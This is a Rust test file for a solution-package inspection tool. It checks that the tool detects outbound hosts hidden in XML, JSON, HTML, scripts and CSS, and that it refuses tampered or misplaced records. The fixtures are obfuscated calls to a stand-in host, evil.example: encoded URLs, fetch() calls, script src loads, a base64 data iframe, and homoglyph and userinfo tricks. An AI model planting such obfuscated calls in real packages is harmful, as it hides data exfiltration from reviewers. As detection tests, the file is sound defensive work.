//! What could hide in another spelling or place: hosts and connectors in layers of XML and JSON, records whose table has a
//! section of its own, files in folders of components.

use dvpack::archive::{self, Limits};

use crate::merged_zip::{project, zip};
use crate::one_truth::{around, refused, solution};
use crate::support::Test;
use crate::tampered::genuine;

const ROLE: &str = "{b3e9fd10-2381-5f5d-b3b7-6c9dcb00618a}";
const BOT: &str = "bots/contoso_bot/bot.xml";
const THING: &str = "<contoso_thing name=\"x\">\r\n  <a>b</a>\r\n</contoso_thing>";

/// The example's solution with parts more, which are as they are given.
fn with(parts: &[(&str, &str)]) -> Vec<u8> {
    let mut package = dvpack::solution::read_zip(&solution(&genuine()), "a.zip").expect("read");
    package.files.extend(parts.iter().map(|(name, text)| ((*name).to_owned(), text.as_bytes().to_vec())));
    dvpack::solution::write_zip(&package).expect("written")
}

fn inspect(zip: &[u8]) -> String {
    Test::new().file("it.zip", zip).args("inspect it.zip").success().stdout
}

fn bot(configuration: &str) -> String {
    format!(
        "<bot schemaname=\"contoso_bot\">\r\n  <name>Bot</name>\r\n  <configuration>{configuration}</configuration>\r\n</bot>"
    )
}

#[test]
fn a_host_is_shown_in_whatever_layer_it_stands() {
    let section = |inside: &str| zip(inside, "", &[]);
    let part = |name: &str, text: &str| zip("", "", &[(name, text.as_bytes())]);
    let resource = |text: &str| {
        let section = "<WebResources><WebResource><Name>contoso_/p.html</Name><FileName>/WebResources/p</FileName></WebResource></WebResources>";
        zip(section, "", &[("WebResources/p", text.as_bytes())])
    };
    let form = |text: &str| {
        section(&format!(
            "<Dashboards><Dashboard><FormId>{ROLE}</FormId><FormXml><form><Url>{text}</Url></form></FormXml></Dashboard></Dashboards>"
        ))
    };
    for (what, zip) in [
        ("references in a record", part(BOT, &bot("https:&#47;&#47;evil.example/x"))),
        ("a letter as a reference", part(BOT, &bot("https://&#101;vil.example/x"))),
        ("CDATA in a record", part(BOT, &bot("https:/<![CDATA[/]]>evil.example/x"))),
        ("a comment in a record", part(BOT, &bot("https:/<!-- -->/evil.example/x"))),
        ("JSON in a record", part(BOT, &bot(r#"{"u":"https:\u002f\u002f\u0065vil.example"}"#))),
        ("JSON in JSON in a record", part(BOT, &bot(r#"{"u":"{\"v\":\"https:\\u002f\\u002fevil.example\"}"}"#))),
        ("a classic workflow", part("Workflows/w.xaml", "<Activity u=\"https:&#47;&#47;evil.example\" />")),
        ("a page", resource("<a href=\"https&colon;&sol;&sol;evil&period;example\">")),
        ("a page without quotes", resource("<script src=//evil.example/a.js></script>")),
        ("a page with numbers", resource("<img src='&#104ttps:&#47&#47evil.example'>")),
        ("a picture", resource("<svg><image href=\"https:&#x2f;&#x2f;evil.example/a\" /></svg>")),
        ("a script", resource(r#"fetch("https:\x2f\x2fevil.example/a")"#)),
        ("a script with a template", resource("fetch(`//evil.example/${a}`)")),
        ("a script with a host in parts", resource("fetch(`https://${region}.evil.example/a`)")),
        ("tabs in a scheme", resource(&format!("fetch('https{}://evil.example/a')", "\t".repeat(24)))),
        ("tabs before the user", resource(&format!("fetch('https://a.example{}@evil.example/')", "\t".repeat(600)))),
        ("a user with blanks", resource("location='https://a.example @evil.example/in'")),
        ("a long user", resource(&format!("<script src=\"//{}@evil.example/x.js\">", "a".repeat(520)))),
        ("a blank before it", resource("<script src=\" //evil.example/x.js\"></script>")),
        ("a list of pictures", resource("<img srcset=\"a.png 1x, //evil.example/b.png 2x\">")),
        ("a tab between the slashes", resource("<img src=\"/\t/evil.example/x\">")),
        ("a comment's begin in an attribute", resource("<a title=\"<!--\" href=\"https:&#47;&#47;evil.example/x\">")),
        (
            "a name of HTML",
            resource(
                "<img src=\"https://&lbrack;2001:db8::13&rbrack;/ https://&ee;vil.example https:/&sol;evil.example\">",
            ),
        ),
        ("zeros in an escape", resource(r#"fetch("https:\u{0000000000002f}\u{0000000000002f}evil.example/")"#)),
        ("a letter behind a backslash", resource(r#"fetch("//ev\il.ex\ample/x")"#)),
        ("a line end behind a backslash", resource("fetch(\"//ev\\\nil.example/x\")")),
        ("a style sheet", resource(r"@import url(https:\2f\2f evil.example/x.css);")),
        (
            "a page in an address",
            resource("<iframe src=\"data:text/html;base64,PGEgaHJlZj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4=\">"),
        ),
        (
            "an entity of a picture",
            resource("<!DOCTYPE svg [<!ENTITY e \"evil\">]><svg><image href=\"https://&e;.example/\"/></svg>"),
        ),
        ("a mailbox", resource("<a href='mailto:me@evil.example'>")),
        ("a server", resource("Server=tcp:evil.example,1433;Database=x")),
        ("a key without a scheme", resource("{\"servers\":[{\"url\":\"evil.example/\"}]}")),
        ("an address in an address", resource("location='/x?to=https%3A%2F%2Fevil.example'")),
        (
            "JSON in customizations.xml",
            section(&format!(
                "<EntityDataSources><EntityDataSource EntityDataSourceId=\"{ROLE}\"><Name>n</Name><ConnectionDefinition>{{\"u\":\"https:\\u002f\\u002f\\u0065vil.example\"}}</ConnectionDefinition></EntityDataSource></EntityDataSources>"
            )),
        ),
        (
            "XML in customizations.xml",
            section(
                "<WebResources><WebResource><Name>contoso_/a</Name><FileName>/WebResources/a</FileName><DependencyXml>&lt;d u=\"https:&amp;#47;/evil.example\" /&gt;</DependencyXml></WebResource></WebResources>",
            ),
        ),
        (
            "a tab in an attribute",
            section("<RibbonDiffXml><Url Address=\"https:&#x9;//evil.example\" /></RibbonDiffXml>"),
        ),
        ("backslashes", form("https:\\\\evil.example\\x")),
        ("one slash", form("https:/evil.example")),
        ("an ideographic full stop", form("https://evil\u{3002}example/x")),
        ("percent", form("https://evil%2Eexample/x")),
        ("a character that nobody sees", form("https://\u{200b}evil.example/x")),
        ("full width", form("https://\u{ff45}vil.example/x")),
        ("another scheme", form("net.tcp://evil.example/x")),
        ("the scheme of the page", form("//evil.example/x")),
        ("a backslash before the user", form("https://api.contoso.com\\@evil.example/x")),
    ] {
        let shown = inspect(&zip);
        let (_, hosts) = shown.split_once("\nWhere data may go\n").unwrap_or_else(|| panic!("{what}: {shown}"));
        assert!(hosts.contains("evil.example ("), "{what}: {hosts}");
    }
    for (what, address, host) in [
        ("a number", "http://3232235777/x", "192.168.1.1"),
        ("one name", "https://intranet/x", "intranet"),
        ("another alphabet", "https://\u{430}pi.contoso.com/x", "xn--pi-6kc.contoso.com"),
    ] {
        let shown = inspect(&form(address));
        assert!(shown.contains(&format!("\n  {host} (Dashboard")), "{what}: {shown}");
    }
    let hidden = bot("/providers&#47;Microsoft.PowerApps/apis/shared_hidden");
    assert!(inspect(&part(BOT, &hidden)).contains("connector shared_hidden (Agent contoso_bot)"));
}

#[test]
fn records_have_one_form_in_a_bundle_and_get_it_from_a_source() {
    let folder = tempfile::tempdir().expect("a folder");
    let good = bot("https://api.contoso.com");
    let ran = Test::new().file("it.dvpack", around(&with(&[(BOT, &good)]))).args("verify it.dvpack").run();
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    for (what, text) in [
        ("references", good.replace("https://", "https:&#47;&#47;")),
        ("a letter as a reference", good.replace("https", "&#104;ttps")),
        ("CDATA", good.replace("https://api.contoso.com", "<![CDATA[https://api.contoso.com]]>")),
        ("a key as a reference", good.replace("contoso_bot", "contoso&#95;bot")),
        ("quotes", good.replace("\"contoso_bot\"", "'contoso_bot'")),
        ("other line ends", good.replace("\r\n", "\n")),
        ("another indentation", good.replace("\r\n  ", "\r\n\t")),
        ("a blank in a tag", good.replace("<bot ", "<bot  ")),
        ("a line end at the end", format!("{good}\r\n")),
        ("a declaration", format!("<?xml version=\"1.0\" encoding=\"utf-8\"?>{good}")),
        ("a byte order mark", format!("\u{feff}{good}")),
    ] {
        refused(what, folder.path(), &with(&[(BOT, &text)]), BOT);
        let ran = project(&zip("", "", &[(BOT, text.as_bytes())]), "").args("build . -o made").success();
        let made = archive::read(&ran.read("made/ContosoFlows_1_0_0_0_managed.zip"), &Limits::default()).expect("read");
        let made = made.into_iter().find(|entry| entry.name == BOT).expect("there").bytes;
        assert_eq!(String::from_utf8_lossy(&made), good, "{what}");
    }
}

#[test]
fn lists_of_a_canvas_app_have_one_reading() {
    let app = |list: &str, json: &str| {
        zip(
            &format!(
                "<CanvasApps><CanvasApp><Name>contoso_c</Name><DisplayName>C</DisplayName><{list}>{json}</{list}></CanvasApp></CanvasApps>"
            ),
            "",
            &[],
        )
    };
    let id = "/providers/microsoft.powerapps/apis/shared_evil";
    for good in ["", "{}", "[]", &format!("{{\"a\":{{\"id\":\"{id}\",\"displayName\":\"x\"}}}}")] {
        project(&app("ConnectionReferences", good), "").args("build . -o made").success();
    }
    for (what, list, json) in [
        ("single quotes", "ConnectionReferences", format!("{{'a':{{'id':'{id}'}}}}")),
        ("a comment", "ConnectionReferences", format!("{{/* */\"a\":{{\"id\":\"{id}\"}}}}")),
        ("another case", "ConnectionReferences", format!("{{\"a\":{{\"Id\":\"{id}\"}}}}")),
        ("both cases", "ConnectionReferences", format!("{{\"a\":{{\"Id\":\"{id}\",\"id\":\"x/shared_ok\"}}}}")),
        ("a list", "ConnectionReferences", format!("[{{\"id\":\"{id}\"}}]")),
        ("a text", "ConnectionReferences", format!("\"{id}\"")),
        (
            "a key twice",
            "ConnectionReferences",
            format!("{{\"a\":{{\"id\":\"{id}\"}},\"a\":{{\"id\":\"x/shared_ok\"}}}}"),
        ),
        (
            "a key in two cases",
            "ConnectionReferences",
            format!("{{\"a\":{{\"id\":\"{id}\"}},\"A\":{{\"id\":\"x/y\"}}}}"),
        ),
        ("an id twice", "ConnectionReferences", format!("{{\"a\":{{\"id\":\"{id}\",\"id\":\"x/shared_ok\"}}}}")),
        ("no id", "ConnectionReferences", format!("{{\"a\":{{\"api\":\"{id}\"}}}}")),
        ("text behind", "ConnectionReferences", format!("{{}}{{\"a\":{{\"id\":\"{id}\"}}}}")),
        ("other data", "DatabaseReferences", "{'default.cds':{}}".to_owned()),
        ("other data twice", "CdsDependencies", "{\"a\":1,\"a\":2}".to_owned()),
        ("a comma too many", "AuthorizationReferences", "[{},]".to_owned()),
    ] {
        let zip = app(list, &json);
        let ran = project(&zip, "").args("build . -o made").code(3);
        assert!(ran.stderr.contains(&format!("`{list}`: ")), "{what}: {}", ran.stderr);
        let ran = Test::new().file("it.zip", &zip).args("inspect it.zip").success();
        assert!(ran.stderr.contains(&format!("`{list}`: ")), "{what}: {}", ran.stderr);
    }
}

#[test]
fn records_of_tables_with_a_section_of_their_own_are_refused() {
    let folder = tempfile::tempdir().expect("a folder");
    let record = |table: &str| format!("<{table} name=\"x\">\r\n  <a>b</a>\r\n</{table}>");
    for (place, table) in [
        ("roles/x", "role"),
        ("sdkmessageprocessingsteps/x", "sdkmessageprocessingstep"),
        ("serviceendpoints/x", "serviceendpoint"),
        ("workflows/x", "workflow"),
        ("connectionreferences/x", "connectionreference"),
        ("fieldsecurityprofiles/x", "fieldsecurityprofile"),
        ("systemusers/x", "systemuser"),
        ("teams/x", "team"),
        ("systemuserrolescollection/x", "systemuserroles"),
        ("customapis/contoso_A/plugintypes/x", "plugintype"),
        ("contoso_things/x", "role"),
    ] {
        let part = format!("{place}/{table}.xml");
        refused(table, folder.path(), &with(&[(&part, &record(table))]), &part);
    }
    refused(
        "another file",
        folder.path(),
        &with(&[("roles/x/contoso_thing.xml", &record("role"))]),
        "contoso_thing.xml",
    );
    // Keys.
    for (what, place, text) in [
        ("a key that nobody sees", "xy", THING.replace("\"x\"", "\"x\u{200b}y\"")),
        ("a key with a character more", "xy", THING.replace("\"x\"", "\"x!!y\"")),
        ("a key with a blank at its end", "x", THING.replace("\"x\"", "\"x \"")),
        ("a key in another order of text", "xy", THING.replace("\"x\"", "\"x\u{202e}y\"")),
        ("another key", "x", THING.replace("\"x\"", "\"z\"")),
    ] {
        let part = format!("contoso_things/{place}/contoso_thing.xml");
        refused(what, folder.path(), &with(&[(&part, &text)]), "contoso_thing.xml");
    }
    let twice = THING.replace("\"x\"", "\"x y\"");
    let places = ["x%21y", "x%24y"].map(|it| format!("contoso_things/{it}/contoso_thing.xml"));
    refused("a key twice", folder.path(), &with(&[(&places[0], &twice), (&places[1], &twice)]), "contoso_thing.xml");
}

#[test]
fn files_that_no_reader_takes_are_listed() {
    const API: &str = "customapis/contoso_Un/customapi.xml";
    const PARAMETER: &str = "customapis/contoso_Un/customapirequestparameters/P/customapirequestparameter.xml";
    const PACKAGE: &str = "pluginpackages/contoso_P/pluginpackage.xml";
    let api = "<customapi uniquename=\"contoso_Un\">\r\n  <name>x</name>\r\n</customapi>";
    let parameter = "<customapirequestparameter uniquename=\"P\">\r\n  <type>10</type>\r\n</customapirequestparameter>";
    let package = "<pluginpackage uniquename=\"contoso_P\">\r\n  <name>contoso_P</name>\r\n  <package>a.nupkg</package>\r\n</pluginpackage>";
    for (what, parts, stray) in [
        ("a parameter without its API", vec![(PARAMETER, parameter)], PARAMETER),
        ("a file beside an API", vec![(API, api), ("customapis/contoso_Un/a.txt", "x")], "customapis/contoso_Un/a.txt"),
        (
            "a file that a text of an API is called by",
            vec![
                (API, &*api.replace("<name>", "<displayname>evil.js</displayname>\r\n  <name>")),
                ("customapis/contoso_Un/displayname/evil.js", "x"),
            ],
            "customapis/contoso_Un/displayname/evil.js",
        ),
        (
            "a file that the name of a package is called by",
            vec![(PACKAGE, package), ("pluginpackages/contoso_P/name/contoso_P", "x")],
            "pluginpackages/contoso_P/name/contoso_P",
        ),
        (
            "a file beside a parameter",
            vec![(API, api), (PARAMETER, parameter), ("customapis/contoso_Un/customapirequestparameters/P/a.js", "x")],
            "customapis/contoso_Un/customapirequestparameters/P/a.js",
        ),
        (
            "a file beside a bot",
            vec![(BOT, &bot("x")), ("bots/contoso_bot/other.json", "{}")],
            "bots/contoso_bot/other.json",
        ),
        (
            "a file in a folder of a bot",
            vec![(BOT, &bot("x")), ("bots/contoso_bot/data/a.txt", "x")],
            "bots/contoso_bot/data/a.txt",
        ),
        (
            "a file beside a package",
            vec![
                (PACKAGE, package),
                ("pluginpackages/contoso_P/package/a.nupkg", "PK"),
                ("pluginpackages/contoso_P/b.dll", "MZ"),
            ],
            "pluginpackages/contoso_P/b.dll",
        ),
        (
            "a file beside a record of any table",
            vec![("contoso_things/x/contoso_thing.xml", THING), ("contoso_things/x/a.bin", "x")],
            "contoso_things/x/a.bin",
        ),
        (
            "a file beside a variable",
            vec![("environmentvariabledefinitions/contoso_ApiBase/defaultvalue.txt", "x")],
            "environmentvariabledefinitions/contoso_ApiBase/defaultvalue.txt",
        ),
    ] {
        let shown = inspect(&with(&parts));
        let (_, listed) =
            shown.split_once("\nFiles that no component names\n").unwrap_or_else(|| panic!("{what}: {shown}"));
        assert!(listed.contains(&format!("  {stray}\n")), "{what}: {listed}");
        for (taken, _) in parts.iter().filter(|(name, _)| *name != stray) {
            assert!(!listed.contains(&format!("  {taken}\n")), "{what}: {taken}: {listed}");
        }
    }
    let taken = with(&[
        (BOT, &bot("x")),
        ("bots/contoso_bot/configuration.json", "{}"),
        ("contoso_things/x/contoso_thing.xml", THING),
        ("contoso_things/x/a/b", "x"),
    ]);
    let shown = inspect(&taken);
    assert!(!shown.contains("Files that no component names"), "{shown}");
    // Without an API there is none.
    assert!(!inspect(&with(&[(PARAMETER, parameter)])).contains("Custom API (1)"));
}
